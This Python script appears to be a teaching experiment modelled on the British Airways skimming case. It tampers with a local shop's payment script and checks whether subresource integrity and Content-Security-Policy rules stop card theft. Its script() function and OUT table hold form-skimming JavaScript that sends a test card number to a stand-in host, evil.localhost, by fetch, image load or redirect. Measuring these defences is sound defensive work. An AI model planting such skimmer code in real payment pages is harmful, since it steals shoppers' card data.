"""Buy a ticket in Chromium, on a page whose script an attacker has changed, with each set of controls.

Needs Playwright and a Chromium whose path is in QUINTAIN_BROWSER. All hosts are names of this machine (`*.localhost`).
"""

import itertools
import os
import platform
import sys
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import parse_qs, urlsplit
from xml.etree import ElementTree as ET

sys.path.insert(0, str(Path(__file__).parents[2] / "lessons" / "case-british-airways"))

from page import integrity  # noqa: E402

CARD = "4929000000000004"
SWITCHES = {
    "integrity": "integrity (SRI) in the script tag",
    "connect": "CSP connect-src 'self'",
    "img": "CSP img-src 'self'",
}
PLACES = {
    "own": "the script on the shop's server",
    "cdn": "the script on a server of somebody else",
    "page": "the script and the HTML of the page",
}
WAYS = {
    "fetch": "sends it with fetch",
    "image": "loads an image from its address",
    "leave": "leads the user to another page",
}
GOOD = "document.forms.pay.addEventListener('submit', event => { event.preventDefault(); fetch('/pay', {method: 'POST'}); });\n"
OUT = {
    "fetch": "fetch(evil, {mode: 'no-cors'})",
    "image": "new Image().src = evil",
    "leave": "setTimeout(() => location.href = evil, 100)",
}
PAGE = """<!doctype html><title>Pay</title>
<form name="pay"><input name="card" value="{card}"><button>Pay</button></form>
<script src="{src}" crossorigin="anonymous"{integrity}></script>"""


class Shop(BaseHTTPRequestHandler):
    """All three hosts; the scene tells what each of them answers."""

    scene: dict = {}
    seen: set[str] = set()

    def do_POST(self) -> None:
        self.seen.add("paid" if self.path == "/pay" else "report")
        self.answer("text/plain", "")

    def do_GET(self) -> None:
        url, host = urlsplit(self.path), (self.headers["Host"] or "").split(":")[0]
        if host == "evil.localhost":
            if parse_qs(url.query).get("card") == [CARD]:
                self.seen.add("stolen")
            self.answer("text/plain", "")
        elif url.path == "/pay.js":
            self.answer("text/javascript", script(self.scene))
        elif url.path == "/":
            self.answer("text/html", page(self.scene), policy(self.scene))
        else:
            self.answer("text/plain", "")

    def answer(self, kind: str, text: str, csp: str = "") -> None:
        self.send_response(200)
        self.send_header("Content-Type", kind)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.send_header("Cache-Control", "no-store")
        if csp:
            self.send_header("Content-Security-Policy", csp)
        self.end_headers()
        self.wfile.write(text.encode())

    def log_message(self, *_: object) -> None:
        """Stay quiet."""


def script(scene: dict) -> str:
    evil = f"const evil = 'http://evil.localhost:{scene['port']}/?card=' + document.forms.pay.card.value;"
    return GOOD + f"document.forms.pay.addEventListener('submit', () => {{ {evil} {OUT[scene['way']]}; }});\n"


def page(scene: dict) -> str:
    host = f"http://cdn.localhost:{scene['port']}" if scene["place"] == "cdn" else ""
    hashed = script(scene) if scene["place"] == "page" else GOOD  # who changes the page changes the hash in it, too
    attribute = f' integrity="{integrity(hashed.encode())}"' if scene["integrity"] else ""
    return PAGE.format(card=CARD, src=f"{host}/pay.js", integrity=attribute)


def policy(scene: dict) -> str:
    parts = [f"{name}-src 'self'" for name in ("connect", "img") if scene[name]]
    return "; ".join([*parts, "report-uri /csp"]) if parts else ""


def replay(browser, scene: dict) -> list[str]:
    """Open the page, pay, and return what came of it."""
    Shop.scene, Shop.seen = scene, set()
    context = browser.new_context()
    tab = context.new_page()
    tab.goto(f"http://shop.localhost:{scene['port']}/")
    tab.evaluate("document.forms.pay.requestSubmit()")
    tab.wait_for_timeout(500)
    context.close()
    return sorted(Shop.seen)


def record() -> dict:
    from playwright.sync_api import sync_playwright

    server = ThreadingHTTPServer(("127.0.0.1", 0), Shop)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    runs = []
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=os.environ["QUINTAIN_BROWSER"], args=["--no-sandbox"])
        version = browser.version.split(".")[0]
        for place, way, *on in itertools.product(PLACES, WAYS, *[[False, True]] * len(SWITCHES)):
            controls = dict(zip(SWITCHES, on, strict=True))
            seen = replay(browser, {"place": place, "way": way, "port": server.server_port, **controls})
            runs.append(
                {"place": place, "way": way, "on": sum(each << bit for bit, each in enumerate(on)), "seen": seen}
            )
        browser.close()
    server.shutdown()
    return {
        "interpreter": f"{platform.python_implementation()} {platform.python_version()}, Chromium {version}",
        "switches": list(SWITCHES.values()),
        "places": PLACES,
        "ways": WAYS,
        "runs": runs,
        "tables": [
            {
                "title": f"What the attacker changed: {place_words}",
                "columns": ["controls", *WAYS.values()],
                "rows": [
                    [
                        ", ".join(words for bit, words in enumerate(SWITCHES.values()) if on >> bit & 1) or "none",
                        *(
                            ending(
                                next(
                                    each
                                    for each in runs
                                    if (each["place"], each["way"], each["on"]) == (place, way, on)
                                )
                            )
                            for way in WAYS
                        ),
                    ]
                    for on in range(1 << len(SWITCHES))
                ],
            }
            for place, place_words in PLACES.items()
        ],
    }


def ending(run: dict) -> str:
    stolen = "card stolen" if "stolen" in run["seen"] else "not stolen"
    return f"{stolen}, {'paid' if 'paid' in run['seen'] else 'not paid'}"


def draw(data: dict) -> str:
    """Draw what happens without and with all controls, for each place and way."""
    width, top = 680, 60
    height = top + 40 * len(data["places"])
    svg = ET.Element(
        "svg",
        {
            "xmlns": "http://www.w3.org/2000/svg",
            "class": "install-still",
            "width": f"{width}",
            "height": f"{height}",
            "viewBox": f"0 0 {width} {height}",
            "aria-label": "Three places that an attacker may change, three ways to send a card number out, with all controls. Some ways remain open.",
        },
    )

    def write(text: str, x: float, y: float, kind: str) -> None:
        ET.SubElement(svg, "text", {"class": kind, "x": f"{x:g}", "y": f"{y:g}"}).text = text

    write("with all three controls", 4, 18, "value")
    for column, words in enumerate(data["ways"].values()):
        write(words, 330 + 155 * column, 40, "middle")
    everything = (1 << len(data["switches"])) - 1
    for row, (place, words) in enumerate(data["places"].items()):
        y = top + 8 + 40 * row
        write(words, 4, y + 4, "")
        for column, way in enumerate(data["ways"]):
            run = next(
                each for each in data["runs"] if (each["place"], each["way"], each["on"]) == (place, way, everything)
            )
            stolen = "stolen" in run["seen"]
            x = 330 + 155 * column
            ET.SubElement(
                svg, "circle", {"class": "harm" if stolen else "ring", "cx": f"{x - 34}", "cy": f"{y}", "r": "6"}
            )
            write("stolen" if stolen else "not stolen", x - 22, y + 4, "harm" if stolen else "sound")
    return ET.tostring(svg, encoding="unicode") + "\n"
